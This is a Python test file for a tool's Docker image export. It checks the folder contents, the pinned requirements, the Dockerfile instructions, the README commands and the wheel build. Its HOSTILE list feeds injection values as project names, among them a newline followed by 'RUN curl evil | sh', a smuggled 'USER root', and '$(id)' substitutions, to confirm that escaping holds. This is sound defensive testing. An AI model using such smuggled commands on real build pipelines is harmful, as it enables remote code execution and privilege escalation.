"""The folder that becomes an image: what is in it, and that no name breaks out of its place."""

from __future__ import annotations

import json
import re
import shlex
import subprocess
import sys
import tomllib
import zipfile
from dataclasses import replace
from pathlib import Path

import pytest

from modelwright.package.bundle import Version, open_version
from modelwright.package.exports import export
from modelwright.package.exports.docker import BASE, dockerfile, plain_name, quoted
from modelwright.package.exports.docker_readme import image_name, render_readme
from modelwright.package.exports.wheel import write_wheel
from modelwright.package.libraries import complete, requirements, serving_libraries
from modelwright.package.signing import make_key, sign_version
from tests.package.building import classifier
from tests.package.exports.graphs import version_of

HOSTILE = (
    'quote" and \\ end',
    "line\nRUN curl evil | sh",
    "carriage\rUSER root",
    "$PATH ${HOME} $(id) `id`",
    "separator\u2028USER root\x85next",
    "],\n  x: [",
    "café 日本",
    "",
    "..",
    "-rf",
)
INSTRUCTIONS = ("ARG", "FROM", "LABEL", "LABEL", "RUN", "COPY", "RUN", "RUN", "COPY", "ENV", "ENV", "USER", "EXPOSE",
                "HEALTHCHECK", "ENTRYPOINT", "CMD")  # fmt: skip


@pytest.fixture(scope="module")
def version(tmp_path_factory: pytest.TempPathFactory) -> Version:
    return version_of(classifier(), tmp_path_factory.mktemp("project"))


@pytest.fixture(scope="module")
def folder(version: Version, tmp_path_factory: pytest.TempPathFactory) -> Path:
    place = tmp_path_factory.mktemp("export") / "image"
    export(version, "docker", place)
    return place


def instructions(text: str) -> list[tuple[str, str]]:
    lines = [line for line in text.split("\n") if line and not line.startswith("#")]
    return [tuple(line.split(" ", 1)) for line in lines]  # type: ignore[misc]


def written(project: str, **options: bool) -> str:
    return dockerfile(plain_name(project), project, 3, "modelwright.whl", **{"threads": True, "alone": True, **options})


# ----------------------------------------------------------------------------------------------------- the folder


def test_it_holds_what_an_image_needs(folder: Path, version: Version) -> None:
    assert {p.name for p in folder.iterdir()} == {
        "Dockerfile", ".dockerignore", "README.md", "requirements.txt", "model", write_wheel_name()
    }  # fmt: skip
    assert open_version(folder / "model").digest == version.digest
    assert all(path.stat().st_mode & 0o777 == (0o755 if path.is_dir() else 0o644) for path in folder.rglob("*"))


def write_wheel_name() -> str:
    import modelwright

    return f"modelwright-{modelwright.__version__}-py3-none-any.whl"


def test_requirements_are_pinned_and_few(folder: Path, version: Version) -> None:
    lines = (folder / "requirements.txt").read_text().splitlines()
    assert all(re.fullmatch(r"[a-z0-9_-]+==[\w.+!-]+", line) for line in lines)
    names = {line.partition("==")[0] for line in lines}
    assert names == {*version.manifest.libraries, "click", "h11", "httptools", "uvicorn", "uvloop"}


def test_a_signed_version_brings_what_checks_signatures(version: Version, tmp_path: Path) -> None:
    signed = version_of(classifier(), tmp_path / "project")
    key = tmp_path / "key.pem"
    make_key(key)
    sign_version(signed.folder, key)
    export(open_version(signed.folder), "docker", tmp_path / "image")
    assert "cryptography==" in (tmp_path / "image" / "requirements.txt").read_text()
    assert "verify model --public-key" in (tmp_path / "image" / "README.md").read_text()
    assert (tmp_path / "image" / "model" / "model.sig").is_file()


def test_nothing_else_gets_into_the_image(folder: Path) -> None:
    assert (folder / ".dockerignore").read_text().split() == ["*", "!requirements.txt", "!*.whl", "!model"]


def test_the_note_of_a_version_says_how_to_install() -> None:
    assert "pip install --no-deps -r" in requirements({"numpy": "2.0", "lightgbm": "4.5"})
    assert "pip install -r" in requirements({"numpy": "2.0", "catboost": "1.2"})
    assert complete({"numpy": "2"}) and not complete({"xgboost-cpu": "3"})
    assert set(serving_libraries(signed=True)) - set(serving_libraries()) == {"cffi", "cryptography", "pycparser"}


def test_the_commands_of_the_readme_are_real(version: Version, tmp_path: Path) -> None:
    import click

    from modelwright.cli.app import app
    from modelwright.cli.commands.serve import command as serve

    (tmp_path / "versions" / "1").mkdir(parents=True)
    (tmp_path / "versions" / "1" / "model.sig").write_text("{}")
    for project in (version, replace(version, folder=tmp_path / "versions" / "1")):
        text = render_readme("bank", "bank", project, BASE)
        lines = [line for line in text.splitlines() if line.startswith("modelwright ")]
        assert lines
        for line in lines:
            name, *words = shlex.split(line, comments=True)[1:]
            app.get_command(click.Context(app), name).make_context(name, words)
        known = {p.envvar for p in serve.params if isinstance(p, click.Option)}
        assert set(re.findall(r"MODELWRIGHT_SERVE_[A-Z_]+", text)) <= known


# ---------------------------------------------------------------------------------------------------- the Dockerfile


def test_the_instructions(folder: Path) -> None:
    found = instructions((folder / "Dockerfile").read_text())
    expected = list(INSTRUCTIONS)
    libraries = (folder / "requirements.txt").read_text()
    if "lightgbm==" not in libraries:
        expected.remove("RUN")
    assert [name for name, _ in found] == expected
    said = dict(found)
    assert json.loads(said["ENTRYPOINT"]) == ["modelwright"] and json.loads(said["CMD"]) == ["serve"]
    assert said["USER"].split(":")[0].isdigit() and said["USER"] != "0" and said["EXPOSE"] == "8080"
    assert said["ARG"] == f"BASE={BASE}" and BASE.startswith(f"python:3.{sys.version_info.minor}-slim")
    health = json.loads(said["HEALTHCHECK"].partition("CMD ")[2])
    assert health[:2] == ["python", "-c"]
    compile(health[2], "health", "exec")


def test_libraries_decide_what_is_installed() -> None:
    assert "libgomp1" in written("x") and "libgomp1" not in written("x", threads=False)
    assert "--no-deps -r" in written("x") and "--no-deps -r" not in written("x", alone=False)
    assert not re.search(r"gcc|g\+\+|build-essential|curl", written("x"))


@pytest.mark.parametrize("project", HOSTILE)
def test_no_name_becomes_an_instruction(project: str) -> None:
    text = written(project)
    assert tuple(name for name, _ in instructions(text)) == INSTRUCTIONS
    assert len(text.split("\n")) == len(text.splitlines()) + 1
    title = next(rest for name, rest in instructions(text) if name == "LABEL").partition("=")[2]
    assert len(shlex.split(title)) == 1
    assert not re.search(r"(?<!\\)\$", title)
    plain = "".join(c if c.isprintable() else " " for c in project)
    assert shlex.split(title)[0].replace("\\$", "$") == plain
    assert title == quoted(project)


@pytest.mark.parametrize("project", HOSTILE)
def test_names_in_paths_and_tags_are_plain(project: str, version: Version) -> None:
    name = plain_name(project)
    assert re.fullmatch(r"[A-Za-z0-9_][A-Za-z0-9._-]*", name)
    assert re.fullmatch(r"[a-z0-9]+(-[a-z0-9]+)*", image_name(name))
    readme, quiet = (render_readme(name, p, version, BASE) for p in (project, "quiet"))
    assert len(readme.splitlines()) == len(quiet.splitlines())
    assert readme.splitlines()[0].count("`") == 2 and "<" not in readme


def test_the_name_in_urls_is_that_of_the_server(tmp_path: Path) -> None:
    from modelwright.serve.deployment import name_of
    from modelwright.serve.settings import Settings

    for project in ("bank-demo", "Bank demo.2", "Übung", "a_b"):
        assert plain_name(project) == name_of(Settings(place=tmp_path / project))


# ----------------------------------------------------------------------------------------------------------- the wheel


def test_the_wheel_is_a_wheel(tmp_path: Path) -> None:
    name = write_wheel(tmp_path)
    with zipfile.ZipFile(tmp_path / name) as archive:
        names = archive.namelist()
        about = name.replace("-py3-none-any.whl", ".dist-info")
        record = archive.read(f"{about}/RECORD").decode().splitlines()
        script = archive.read(f"{about}/entry_points.txt").decode()
        assert archive.testzip() is None
    assert sorted(line.split(",")[0] for line in record) == sorted(names)
    assert "modelwright/serve/server.py" in names and not any("__pycache__" in n for n in names)
    project = tomllib.loads((Path(__file__).parents[3] / "pyproject.toml").read_text())["project"]
    assert script == "[console_scripts]\nmodelwright = modelwright.cli:main\n"
    assert project["scripts"] == {"modelwright": "modelwright.cli:main"}


def test_the_same_code_is_the_same_wheel(tmp_path: Path) -> None:
    for place in ("one", "two"):
        (tmp_path / place).mkdir()
        write_wheel(tmp_path / place)
    one, two = (next((tmp_path / place).iterdir()).read_bytes() for place in ("one", "two"))
    assert one == two


def test_pip_takes_the_wheel(tmp_path: Path) -> None:
    name = write_wheel(tmp_path)
    command = [sys.executable, "-m", "pip", "install", "-q", "--no-deps", "--no-index", "--no-compile", "--target"]
    subprocess.run([*command, str(tmp_path / "to"), str(tmp_path / name)], check=True, capture_output=True)
    assert (tmp_path / "to" / "modelwright" / "cli" / "app.py").is_file()
    assert (tmp_path / "to" / "bin" / "modelwright").is_file()
